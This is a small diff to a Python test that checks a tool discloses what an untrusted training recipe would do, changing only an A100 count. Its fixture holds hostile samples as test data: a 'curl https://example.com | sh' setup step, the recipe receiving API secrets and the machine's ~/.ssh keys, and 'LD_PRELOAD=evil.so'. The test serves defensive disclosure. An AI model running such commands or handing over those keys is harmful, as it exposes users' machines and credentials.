@@ -61,7 +61,7 @@ def test_it_is_shown_what_a_stranger_s_recipe_would_do(host: GitHost) -> None:
     nothing is run."""
     extra = """\
 hardware:
-  any_of: [{accelerators: A100:8, clouds: [aws], image: "docker:some/one", setup: make more}]
+  any_of: [{accelerators: A100:4, clouds: [aws], image: "docker:some/one", setup: make more}]
 requirements: [einops]
 setup: |
   curl https://example.com | sh
@@ -88,7 +88,7 @@ tracking: {wandb: {project: p, entity: them}}
         "be given the secrets THEIR_KEY, WANDB_API_KEY",
         f"be given {home}/.ssh of this machine, as /keys",
         "set LD_PRELOAD=evil.so",
-        "train on 1 x A100:8 of aws, image docker:some/one",
+        "train on 1 x A100:4 of aws, image docker:some/one",
         "keep its state in s3://bucket/them",
         "tell Weights & Biases, them/p",
     } <= shown
